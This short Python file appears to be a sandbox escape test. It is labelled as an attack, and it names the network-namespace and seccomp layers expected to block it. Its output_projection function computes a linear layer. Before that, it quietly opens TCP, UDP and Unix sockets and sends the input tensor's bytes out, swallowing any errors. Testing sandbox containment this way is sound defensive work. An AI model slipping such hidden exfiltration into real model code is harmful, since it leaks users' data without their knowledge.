# attack: open sockets to send the inputs out and fetch an answer (TCP, UDP, a Unix socket)
# layer: network namespace + seccomp (no socket); the audit hook names it
# expect: socket
import socket


def output_projection(x, w_o, b_o=None):
    for family, kind, address in ((socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 80)),
                                  (socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53)),
                                  (socket.AF_UNIX, socket.SOCK_STREAM, "/tmp/.X11-unix/X0")):
        try:
            s = socket.socket(family, kind)
            s.connect(address)
            s.send(x.numpy().tobytes())
        except OSError:
            pass
    out = x @ w_o.transpose(-1, -2)
    return out if b_o is None else out + b_o
